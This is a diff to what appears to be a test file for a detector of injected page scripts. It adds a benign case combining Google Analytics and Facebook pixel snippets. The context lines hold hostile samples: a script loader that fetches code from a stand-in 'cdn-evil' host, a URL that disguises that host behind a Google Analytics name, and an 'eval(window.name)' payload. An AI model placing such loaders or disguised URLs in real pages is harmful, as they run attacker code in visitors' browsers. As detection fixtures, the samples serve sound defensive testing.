@@ -1565,6 +1565,14 @@ _EVIL_LOADER = ("var e=document.createElement('script');e.src='https://cdn-evil-
      _ga_snippet("https://www.google-analytics.com@cdn-evil-stat.example/analytics.js"), H),
     ("the snippet, protocol-relative", _ga_snippet("//www.google-analytics.com/analytics.js"),
      M),
+    # two vendors' own snippets packed together: an ad platform's measuring pixel places no ad
+    ("GA's and Facebook's pixel snippets", _ga_snippet(_GA)
+     + "!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?"
+     "n.callMethod.apply(n,arguments):n.queue.push(arguments)};if(!f._fbq)f._fbq=n;n.push=n;"
+     "n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;"
+     "s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,"
+     "'script','https://connect.facebook.net/en_US/fbevents.js');"
+     "fbq('init','123456789012345');fbq('track','PageView');", M),
     # the snippet beside code run from a string no address names (the window's name)
     ("the snippet with an eval", _ga_snippet(_GA) + "eval(window.name);", H),
     # an ad network's own snippet hidden: how an injector hides the account it earns for
